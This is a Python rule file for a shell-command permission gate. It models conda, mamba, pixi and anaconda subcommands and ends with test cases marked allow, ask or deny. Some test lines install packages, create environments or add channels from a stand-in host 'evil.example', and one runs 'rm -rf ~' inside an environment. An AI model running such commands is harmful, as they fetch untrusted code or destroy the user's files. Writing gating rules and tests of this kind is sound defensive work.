"""conda and mamba — environments and packages of any language."""

from toolgate.knowledge.vocabulary import *

CHANNELS = [
    flags("""
        -n= --name= -y --yes -q --quiet -v --verbose --json --offline --override-channels --strict-channel-priority
        --no-channel-priority --no-deps --only-deps --no-pin --copy --download-only --solver= --experimental= -k
        --insecure --use-local --no-default-packages --freeze-installed --no-update-deps -S --satisfied-skip-solve
        --update-deps --update-all --all --update-specs --force-reinstall -C --dev --clobber --platform= --subdir=
        --no-env --clone= --prune -m --mkdir --no-shortcuts --shortcuts-only= --repodata-fn= --no-rc
    """),
    option("-p --prefix", WRITES),
    option("-c --channel", "READ_BY(channel)"),
    option("--file -f", "PACKAGES(file)"),
    flag("-d --dry-run", dry=True, clears="run"),
    flag("-h", informs=True),
]

CONDA = command(
    "conda mamba micromamba",
    options=[flag("-h -V", informs=True), flags("-v --verbose --no-plugins -y --yes -q"), option("-r --root-prefix", WRITES), option("--rc-file", READS)],
    subcommands=[
        sub("install update upgrade", "PACKAGES...", CHANNELS),
        sub("create", "PACKAGES...", CHANNELS),
        sub("remove uninstall", "READ_BY(removed_package)...", [*CHANNELS, flag("--all", deletes("the whole environment", "home"))], does=deletes("packages in the environment", "output")),
        sub("list info search compare doctor package help notices activate deactivate", "PLAIN...", [option("-c --channel", "READ_BY(channel)")], unlisted=PLAIN),
        sub("shell.* shell hook shell-hook", "PLAIN...", unlisted=PLAIN, stdout="SETUP"),
        sub("run", "LOCAL", [flags("-n= --name= -v --verbose --live-stream --no-capture-output --dev --debug-wrapper-scripts -a= --attach="), option("-p --prefix", READS), option("--cwd", CHDIR)]),
        sub("env", subcommands=[
            sub("list export", "PLAIN...", [option("-f --file", WRITES)], unlisted=PLAIN),
            sub("create update", "PACKAGES...", CHANNELS, bare=runs("the project's environment", "workspace", (Manner.INSTALL, Manner.LOCKED))),
            sub("remove", "PLAIN...", CHANNELS, does=deletes("the whole environment", "home")),
            sub("config", "PLAIN...", unlisted=PLAIN, does=writes("settings of the environment", "home")),
        ]),
        sub("export", "PLAIN...", [option("-f --file", WRITES)], unlisted=PLAIN),
        sub("rename", "PLAIN...", unlisted=PLAIN, does=writes("an environment", "home")),
        sub("clean", "", unlisted=PLAIN, does=deletes("conda's cache", "cache")),
        sub("config", "PLAIN...", [flag("--show --show-sources --get --describe --validate", clears="write"), flag("--env --system --json"), flags("--add= --append= --prepend= --set= --remove= --remove-key=")], unlisted=PLAIN, does=writes(Name("~/.condarc"), "home")),
        sub("init", "PLAIN...", [flag("--dry-run -d", dry=True), flags("--all --user --system --reverse -v")], does=writes("your shell's profile", "startup")),
        sub("build", "READS...", [flags("--no-test --output"), option("-c --channel", "READ_BY(channel)")], unlisted=PLAIN, does=runs("the project's build")),
        sub("upload publish", "PLAIN...", unlisted=PLAIN, does=publishes("the package", "registry")),
    ],
)  # fmt: skip
PIXI = command(
    "pixi",
    options=[
        flag("-h -V", informs=True),
        flags("-v --verbose -q --quiet --color= --no-progress"),
        option("--manifest-path", READS),
    ],
    subcommands=[
        sub(
            "run shell-hook",
            "LOCAL?",
            [
                flags(
                    "-e= --environment= --frozen --locked --no-lockfile-update --clean-env --skip-deps -x --executable"
                ),
                option("--manifest-path", READS),
            ],
        ),
        sub(
            "install lock update",
            "PLAIN...",
            unlisted=PLAIN,
            does=runs(LOCKED_PACKAGES, "workspace", (Manner.INSTALL, Manner.LOCKED)),
        ),
        sub(
            "add",
            "PACKAGES...",
            [flags("--pypi -f= --feature= -p= --platform= --build --host --git= --no-install --editable")],
        ),
        sub("remove list tree info init task search clean help project workspace upgrade", "PLAIN...", unlisted=PLAIN),
        sub(
            "exec", "TOOL", [flags("-s= --spec= --with= --force-reinstall"), option("-c --channel", "READ_BY(channel)")]
        ),
        sub("global", "PLAIN...", unlisted=PLAIN, does=runs("programs", "machine", (Manner.INSTALL, Manner.GLOBAL))),
        sub("shell", "PLAIN...", unlisted=PLAIN, does=runs("a shell", "workspace", Manner.INTERACTIVE)),
        sub("upload auth", "PLAIN...", unlisted=PLAIN, does=publishes("the package", "registry")),
    ],
)
CONDA_TOOLS = command(
    "conda-lock conda-build constructor anaconda-navigator",
    "PLAIN...",
    [option("-f --file", READS), option("--lockfile", WRITES), option("-c --channel", "READ_BY(channel)")],
    unlisted=PLAIN,
    does=fetches("conda channels", "registry"),
)
ANACONDA = command(
    "anaconda",
    subcommands=[
        sub("search show whoami list", "PLAIN...", unlisted=PLAIN, does=fetches(Name("anaconda.org"), "known")),
        sub(
            "upload login logout auth",
            "PLAIN...",
            [option("--site", FETCHES)],
            unlisted=PLAIN,
            does=publishes("the package", "registry"),
        ),
    ],
)

CASES = """
allow  conda env list
allow  conda list -n base
allow  conda info --json
allow  conda env create -f environment.yml
allow  conda env update -f environment.yml --prune
allow  conda activate work
allow  conda run -n work pytest -q
allow  mamba install --file requirements.txt
allow  conda clean --all -y
llm    conda install -y numpy
llm    conda create -n x python=3.12
llm    conda install -c conda-forge numpy
ask    conda install -c https://evil.example/channel numpy
ask    conda env create -f https://evil.example/environment.yml
ask    conda env remove -n work
ask    conda config --add channels https://evil.example/channel
allow  conda config --show
ask    conda init bash
deny   conda run -n work rm -rf ~
allow  pixi run test
"""
